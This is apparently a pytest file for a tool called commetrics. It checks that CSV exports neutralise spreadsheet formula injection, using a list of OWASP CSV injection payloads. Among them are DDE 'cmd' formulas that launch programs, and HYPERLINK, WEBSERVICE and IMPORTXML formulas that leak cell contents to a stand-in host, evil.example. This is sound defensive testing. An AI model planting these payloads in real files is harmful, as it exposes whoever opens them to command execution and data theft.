"""SEC-10: no cell of a CSV that commetrics writes can run as a spreadsheet formula (OWASP CSV Injection).

The payloads are the examples of OWASP's CSV Injection page and the usual variants (DDE, HYPERLINK,
WEBSERVICE, IMPORTXML, leading tab, CR and LF, full-width signs). Each goes into every text cell the CRM
import files and the pseudonymised CSV export write; each must come out inert and whole.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from commetrics import Engine
from commetrics.crm import TARGETS, export_files
from commetrics.spreadsheet import safe_cell

from .conftest import NOW, write_csv

OWASP_PAYLOADS = [
    "=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=10+20+cmd|' /C calc'!A0",
    "=2+5+cmd|' /C explorer http://evil.example'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&A2, "Error: please click for further information")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=IMAGE("http://evil.example/pixel.png")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "@cmd",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "\t\r @SUM(1)",
    "\uff1d1+2",  # full-width equals sign
    "\uff20SUM(1)",
    "harmless\t=cmd|' /C calc'!A0",  # a new cell after the tab for a tab-separated reader
    "harmless\r\n-2+3+cmd|' /C calc'!A0",  # a new line for a line-based reader
    "a,=1+2",
    "a;=1+2",
]
#: Text that must come out exactly as it went in.
HARMLESS = ["-12.5", "+3", "1e5", "community-active", "forum;events", "café", "a-b", "x@y.example"]

#: A cell is dangerous when it, or a part after a tab, CR or LF, starts with a formula sign.
_DANGER = re.compile(r"(^|[\t\r\n])[ \t\r\n]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"^[+-]?([0-9]+([.][0-9]*)?|[.][0-9]+)([eE][+-]?[0-9]+)?$")


def _dangerous(cell: str) -> bool:
    return bool(_DANGER.search(cell)) and not _NUMBER.match(cell)


def _restored(cell: str) -> str:
    """What the user gets back by removing the marks ``safe_cell`` adds."""
    cell = cell[1:] if cell.startswith("'") else cell
    return re.sub(r"([\t\r\n][ \t\r\n]*)'", r"\1", cell)


def _cells(path: Path) -> list[str]:
    raw = path.read_bytes().decode("utf-8")
    with path.open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows[1:] for cell in row]
    # every value is quoted, so a comma or semicolon inside it never opens a new cell
    assert [c for c in cells if c and '"' + c.replace('"', '""') + '"' not in raw] == []
    return cells


def test_safe_cell_neutralises_every_payload_and_keeps_it_whole() -> None:
    for payload in OWASP_PAYLOADS:
        safe = safe_cell(payload)
        assert not _dangerous(safe), repr(payload)
        assert _restored(safe) == payload
    for text in HARMLESS:
        assert safe_cell(text) == text


@pytest.mark.parametrize("target", TARGETS)
def test_crm_files_hold_no_live_formula(target: str, tmp_path: Path) -> None:
    n = len(OWASP_PAYLOADS)
    contacts = pd.DataFrame({
        "email": [f"p{i}@example.com" for i in range(n)],
        "member_id": [f"m{i:03d}{p}" for i, p in enumerate(OWASP_PAYLOADS)],
        "community_engagement_score": [-1.5 * i for i in range(n)],
        "community_tier": OWASP_PAYLOADS,
        "community_last_active": pd.to_datetime(["2026-06-01"] * n, utc=True),
        "community_tags": list(reversed(OWASP_PAYLOADS)),
    })
    companies = pd.DataFrame({
        "account_id": [f"{p}{i}" for i, p in enumerate(OWASP_PAYLOADS)], "domain": OWASP_PAYLOADS,
        "health_score": [50.0] * n, "health_band": OWASP_PAYLOADS, "community_engagement_score": [1.0] * n,
        "community_active_members": [2] * n,
    })
    cells = []
    for path in export_files(contacts, companies, target, tmp_path):
        cells += _cells(path)
    assert [c for c in cells if _dangerous(c)] == []
    restored = {_restored(c) for c in cells}
    # every payload is there, whole once the mark is removed (CRM values are trimmed of outer spaces)
    assert {p.strip() for p in OWASP_PAYLOADS} <= restored
    assert "-1.5" in cells  # numbers are numbers


def test_the_pseudonymised_csv_export_holds_no_live_formula(tmp_path: Path) -> None:
    n = len(OWASP_PAYLOADS)
    # Parquet carries every payload byte for byte (tabs and line breaks included) into the store.
    accounts = pd.DataFrame({"account_id": [f"acc{i}" for i in range(n)], "name": OWASP_PAYLOADS,
                             "segment": OWASP_PAYLOADS})
    activities = pd.DataFrame({"activity_id": [f"{p}-{i}" for i, p in enumerate(OWASP_PAYLOADS)],
                               "member_id": "m1", "ts": pd.Timestamp("2026-02-01", tz="UTC"), "type": "post",
                               "channel": OWASP_PAYLOADS, "program": OWASP_PAYLOADS})
    accounts.to_parquet(tmp_path / "a.parquet")
    activities.to_parquet(tmp_path / "act.parquet")
    with Engine.init(tmp_path / "ws") as engine:
        engine.load("accounts", tmp_path / "a.parquet", now=NOW)
        engine.load("members", write_csv(tmp_path / "m.csv", ["member_id", "joined_at", "consent"],
                                         [["m1", "2026-01-01", "true"]]), now=NOW)
        engine.load("activities", tmp_path / "act.parquet", now=NOW)
        loaded = engine.status().tables
        assert (loaded["accounts"], loaded["activities"]) == (n, n)  # every payload reached the store
        engine.export_pseudonymised(tmp_path / "out", tables=["accounts", "activities"], file_format="csv")
    cells = _cells(tmp_path / "out" / "accounts.csv") + _cells(tmp_path / "out" / "activities.csv")
    assert [c for c in cells if _dangerous(c)] == []
    restored = [_restored(c) for c in cells]
    for payload in OWASP_PAYLOADS:  # the loader may trim outer spaces; the rest arrives whole
        forms = {payload, payload.strip(" "), payload.strip()}
        assert sum(r in forms for r in restored) >= 4, repr(payload)  # name, segment, channel, program
